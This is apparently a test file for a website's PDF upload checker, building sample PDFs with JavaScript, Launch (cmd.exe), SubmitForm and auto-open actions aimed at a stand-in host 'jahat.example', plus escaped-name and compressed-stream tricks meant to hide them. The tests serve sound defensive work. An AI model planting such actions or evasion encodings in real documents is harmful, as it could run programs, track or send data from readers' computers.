// Uploaded PDFs cannot act by themselves on a resident's computer: script, programs, form
// submission, other files and addresses opened on open are refused however they are
// written (escaped names, compressed object streams, predictors), while ordinary office
// PDFs (clickable links, a zoom on open, compressed pages) still pass.
import { readFileSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { mediaFileProblem } from '../../src/data/media.ts';
import { contentWith, errorsOf, registerContentCopies } from './content-fixture.ts';

registerContentCopies();

const PAGE = '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [5 0 R] >> endobj';
const CONTENTS = `4 0 obj << /Length 44 >> stream\nBT /F1 12 Tf 72 720 Td (Formulir PKS) Tj ET\nendstream endobj`;
const linkTo = (action: string) => `5 0 obj << /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A ${action} >> endobj`;

/** A one-page PDF whose catalog has `catalogExtra` and whose link annotation runs `action`, plus `more` objects. */
function pdf({ catalogExtra = '', action = '<< /S /URI /URI (https://mpp.example.go.id/) >>', more = [] as (string | Buffer)[] } = {}) {
  const parts: (string | Buffer)[] = [
    '%PDF-1.7\n',
    `1 0 obj << /Type /Catalog /Pages 2 0 R ${catalogExtra} >> endobj\n`,
    '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n',
    `${PAGE}\n${CONTENTS}\n${linkTo(action)}\n`,
    ...more,
    'trailer << /Root 1 0 R /Size 9 >>\n%%EOF\n',
  ];
  return Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : p)));
}

/** A compressed object stream holding `objects` (numbered from 20), like PDF 1.5+ writers make. */
function objectStream(objects: string[], { predictor = false } = {}): Buffer {
  let offsets = '';
  let body = '';
  for (const [i, object] of objects.entries()) {
    offsets += `${20 + i} ${body.length} `;
    body += `${object}\n`;
  }
  let data = Buffer.from(offsets + body, 'latin1');
  let parms = '';
  if (predictor) {
    // PNG "Up" predictor over 8-byte rows: the object text no longer appears even after inflating.
    const rows: Buffer[] = [];
    const padded = Buffer.concat([data, Buffer.alloc((8 - (data.length % 8)) % 8, 0x20)]);
    for (let r = 0; r < padded.length; r += 8) {
      const row = Buffer.alloc(9);
      row[0] = 2;
      for (let i = 0; i < 8; i++) row[i + 1] = ((padded[r + i] ?? 0) - (r > 0 ? (padded[r - 8 + i] ?? 0) : 0)) & 0xff;
      rows.push(row);
    }
    data = Buffer.concat(rows);
    parms = ' /DecodeParms << /Predictor 12 /Columns 8 >>';
  }
  const packed = deflateSync(data);
  return Buffer.concat([
    Buffer.from(
      `9 0 obj << /Type /ObjStm /N ${objects.length} /First ${offsets.length} /Filter /FlateDecode${parms} /Length ${packed.length} >> stream\n`,
    ),
    packed,
    Buffer.from('\nendstream endobj\n'),
  ]);
}

const problem = (bytes: Buffer) => mediaFileProblem(bytes, 'pdf');

describe('PDF uploads that act by themselves are refused', () => {
  it('accepts ordinary PDFs: the sample agreements, a clickable link, a zoom on open, compressed objects', () => {
    for (const file of ['pks-bpjs-kesehatan', 'pks-polres-pekalongan-kota'])
      expect(problem(readFileSync(`content/media/kerja-sama/${file}/dokumen.pdf`))).toBeNull();
    expect(problem(pdf())).toBeNull();
    expect(problem(pdf({ catalogExtra: '/OpenAction [3 0 R /Fit]' }))).toBeNull();
    expect(problem(pdf({ catalogExtra: '/OpenAction 6 0 R', more: ['6 0 obj [3 0 R /FitH 842] endobj\n'] }))).toBeNull();
    expect(problem(pdf({ more: [objectStream(['<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'])] }))).toBeNull();
  });

  it.each([
    ['JavaScript', '<< /S /JavaScript /JS (app.alert(1)) >>', /\/JavaScript/],
    ['an escaped name /J#61vaScript', '<< /S /J#61vaScript /J#53 (app.alert(1)) >>', /\/JavaScript/],
    ['an escaped first letter /#4Aavascript', '<< /S /#4Aava#53cript /#4AS (app.alert(1)) >>', /\/JavaScript/],
    ['Launch', '<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\cmd.exe) >>', /\/Launch/],
    ['SubmitForm', '<< /S /SubmitForm /F (https://jahat.example/kirim) >>', /\/SubmitForm/],
    ['ImportData', '<< /S /ImportData /F (data.fdf) >>', /\/ImportData/],
    ['GoToR', '<< /S /GoToR /F (\\\\\\\\jahat.example\\\\berbagi\\\\a.pdf) /D [0 /Fit] >>', /\/GoToR/],
  ])('V12.2.1 a link that runs %s', (_, action, named) => {
    expect(problem(pdf({ action }))).toMatch(named);
    expect(problem(pdf({ action }))).toMatch(
      /^PDF memuat JavaScript atau perintah yang menjalankan program.*simpan ulang sebagai PDF biasa/,
    );
  });

  it('V12.2.1 an address or script opened as soon as the file opens (/OpenAction with URI, direct or indirect; /AA)', () => {
    const message = /^PDF memuat perintah yang berjalan sendiri saat dibuka \(\/OpenAction\)/;
    expect(problem(pdf({ catalogExtra: '/OpenAction << /S /URI /URI (https://jahat.example/lacak) >>' }))).toMatch(message);
    expect(problem(pdf({ catalogExtra: '/Open#41ction << /S /URI /URI (https://jahat.example/lacak) >>' }))).toMatch(message);
    expect(
      problem(pdf({ catalogExtra: '/OpenAction 6 0 R', more: ['6 0 obj << /S /URI /URI (https://jahat.example/lacak) >> endobj\n'] })),
    ).toMatch(message);
    expect(problem(pdf({ catalogExtra: '/AA << /WC << /S /URI /URI (https://jahat.example/) >> >>' }))).toMatch(/\(\/AA\)/);
  });

  it('V12.2.1 actions hidden in a compressed object stream, also with escaped names or a PNG predictor', () => {
    const hidden = (object: string, options = {}) =>
      problem(pdf({ catalogExtra: '/Names 20 0 R', more: [objectStream([object], options)] }));
    expect(hidden('<< /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >> >>')).toMatch(/\/JavaScript/);
    expect(hidden('<< /Names [(a) << /S /J#61vaScript /J#53 (app.alert(1)) >>] >>')).toMatch(/\/JavaScript/);
    expect(hidden('<< /S /Launch /F (cmd.exe) >>', { predictor: true })).toMatch(/\/Launch/);
    expect(
      problem(pdf({ catalogExtra: '/OpenAction 20 0 R', more: [objectStream(['<< /S /URI /URI (https://jahat.example/) >>'])] })),
    ).toMatch(/\(\/OpenAction\)/);
  });

  it('refuses what it cannot read to tell: encryption and legacy compression', () => {
    expect(problem(pdf({ more: ['trailer << /Encrypt 7 0 R >>\n'] }))).toMatch(/^PDF terkunci atau terenkripsi/);
    const lzw = Buffer.from('8 0 obj << /Type /ObjStm /N 1 /First 5 /Filter /LZWDecode /Length 4 >> stream\nabcd\nendstream endobj\n');
    expect(problem(pdf({ more: [lzw] }))).toMatch(/^PDF tidak dapat diperiksa: memakai pemadatan LZWDecode; simpan ulang/);
  });

  it('names the file and field of a refused PDF in the content check', async () => {
    const dir = contentWith({
      'media/kerja-sama/polresta/dokumen.pdf': pdf({ action: '<< /S /J#61vaScript /J#53 (app.alert(1)) >>' }),
      'kerja-sama/polresta.yaml': (t) => t.replace('dokumen: null', 'dokumen: /media/kerja-sama/polresta/dokumen.pdf'),
    });
    expect(await errorsOf(dir)).toMatch(
      /kerja-sama\/polresta\.yaml › dokumen: berkas \/media\/kerja-sama\/polresta\/dokumen\.pdf: PDF memuat JavaScript .*\/JavaScript/,
    );
  });
});
